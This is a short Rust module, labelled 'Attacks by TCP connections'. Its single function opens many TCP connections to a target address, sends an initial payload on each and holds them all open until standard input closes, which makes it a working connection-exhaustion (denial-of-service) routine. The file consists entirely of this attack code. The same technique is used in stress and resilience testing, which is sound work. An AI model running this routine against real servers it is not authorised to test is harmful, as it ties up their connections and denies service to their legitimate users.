//! Attacks by TCP connections.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

/// Time in which a connection is made or counts as refused.
const CONNECT_TIME: Duration = Duration::from_millis(500);

/// Opens so many TCP connections, writes `first` to each, and holds them until standard input ends.
/// Reports how many were made.
pub fn hold(to: SocketAddr, count: u32, first: &[u8]) {
    let mut held = Vec::new();
    for _ in 0..count {
        let Ok(mut stream) = TcpStream::connect_timeout(&to, CONNECT_TIME) else {
            continue;
        };
        // (The other end may have closed it already.)
        let _ = stream.write_all(first);
        held.push(stream);
    }
    println!("sent {}", held.len());
    let _ = std::io::stdin().read_to_end(&mut Vec::new());
}
